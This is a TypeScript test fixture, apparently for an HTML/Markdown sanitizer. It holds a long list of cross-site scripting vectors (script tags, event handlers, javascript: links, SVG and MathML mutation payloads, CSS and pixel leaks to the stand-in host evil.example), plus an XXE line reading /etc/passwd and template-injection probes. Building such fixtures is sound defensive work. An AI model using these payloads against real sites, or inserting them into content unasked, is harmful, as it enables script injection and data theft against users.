/** What would run, load, frame, send or lead where it must not, if a text were taken for more than a text. */
const handlers = `
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<script type=module>import('//evil.example/x.js')</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<SCRIPT>alert(1)</SCRIPT >
<script>alert(1)//
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--></script><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
\`><script>alert(1)</script>
<<script>alert(1)</script>
<script nonce="">alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img src="x" onerror="&#97;lert(1)">
<IMG SRC=x OnErRoR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1) />
"><img src=x onerror=alert(1)>
' onmouseover=alert(1) autofocus onfocus=alert(1) x='
" onmouseover=alert(1) autofocus onfocus=alert(1) x="
<img srcset="x 1x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1) src=x></picture>
<img src="//evil.example/pixel.png">
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<frameset onload=alert(1)>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button popovertarget=x>y</button><div popover id=x onbeforetoggle=alert(1)>
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay src=//evil.example/a.mp3></audio>
<marquee onstart=alert(1)>m</marquee>
<p style="animation:x" onanimationstart=alert(1)>
<xss contenteditable onfocus=alert(1) autofocus tabindex=1>
<div onpointerrawupdate=alert(1)>x</div>
<a href="javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=javas&#99;ript:alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example" ping="//evil.example/ping" target=_blank>x</a>
<a href=# download onclick=alert(1)>x</a>
<area href=javascript:alert(1)>
<map name=x><area shape=default href=javascript:alert(1)></map><img usemap=#x>
<form action="javascript:alert(1)"><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form action=//evil.example><input name=password></form>
<input type=image src=x onerror=alert(1) formaction=javascript:alert(1)>
<isindex action=javascript:alert(1) type=image>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=//evil.example></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<object data=//evil.example/x.swf></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code=x>
<portal src=javascript:alert(1)>
<fencedframe src=//evil.example></fencedframe>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/>
<link rel=import href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/leak)}</style>
<p style="background:url(//evil.example/leak)">x</p>
<p style="position:fixed;inset:0;z-index:9999">over all of it</p>
<style><img src=x onerror=alert(1)></style>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x" />
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><image href=//evil.example/x.png /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a title="</style><img src=x onerror=alert(1)>">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<select><button><selectedcontent><img src=x onerror=alert(1)></selectedcontent></button></select>
<select><template><img src=x onerror=alert(1)></template></select>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<table><td background=//evil.example/x.png>x</table>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<form id=x></form><input form=x name=attributes><img name=body id=getElementById>
<a id=__proto__ name=cookie>x</a><img name=currentScript>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
<![CDATA[<img src=x onerror=alert(1)>]]>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
＜script＞alert(1)＜/script＞
{{7*7}} {{constructor.constructor('alert(1)')()}}
\${7*7} #{7*7} <%= 7*7 %> {% import os %} @{7*7} *{7*7}
__ROUNDS_NONCE__ <!--page--> <!--data-->
{"__html":"<img src=x onerror=alert(1)>"}
a\u2028alert(1)\u2029</script><script>alert(1)</script>
\u202egpj.\u2066<img src=x onerror=alert(1)>\u2069
`;

/** The same by what Markdown makes of signs: links, pictures, references, code. */
const links = `
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](<java\tscript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](blob:null/x)
[x](file:///etc/passwd)
[x](//evil.example)
[x](\\\\evil.example)
[x](/\\evil.example)
[x](/%5cevil.example)
[x](https:evil.example "onmouseover=alert(1)")
[x](/a"onmouseover="alert(1))
[x](/a 'x" onmouseover="alert(1)')
[x](https://аpple.com)
[x](https://user:secret@evil.example/)
[<img src=x onerror=alert(1)>](/x)
[x<script>alert(1)</script>](/x)
[a]: javascript:alert(1)
[a]
[b]: /x "\\"><script>alert(1)</script>"
[b]
![x](javascript:alert(1))
![x](//evil.example/pixel.png)
![x](https://evil.example/pixel.png)
![" onerror="alert(1)](x)
![x](x "\\" onerror=\\"alert(1)")
![<img src=x onerror=alert(1)>](/pictures/none.webp)
<javascript:alert(1)>
<https://evil.example/"onmouseover="alert(1)>
https://evil.example/"onmouseover="alert(1)
www.evil.example/'onmouseover='alert(1)
mailto:"><script>alert(1)</script>@evil.example
\`<img src=x onerror=alert(1)>\`
\`\`\`"><img src=x onerror=alert(1)>
*<img src=x onerror=alert(1)>*
# <svg onload=alert(1)>
> <script>alert(1)</script>
- [ ] <img src=x onerror=alert(1)>
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
[^1]: <img src=x onerror=alert(1)>
@<script>alert(1)</script> @"><img src=x onerror=alert(1)>
`;

const lines = (text: string): string[] => text.split('\n').filter((line) => line !== '');

/** One a paragraph; `<!--` and a fence come last, since they would hide from a parser what stands behind them. */
export const vectors: readonly string[] = [
  ...lines(handlers),
  ...lines(links),
  '<!--<img src=x onerror=alert(1)>',
  '~~~x',
];

export const mark = (number: number): string => `— ${number} —`;

/** So many of them from there on as one text; each has its mark behind it, which shows that it has not swallowed the rest. */
export const textOf = (from: number, count: number): string =>
  vectors
    .slice(from, from + count)
    .map((vector, place) => `${vector}\n\n${mark(from + place + 1)}`)
    .join('\n\n');
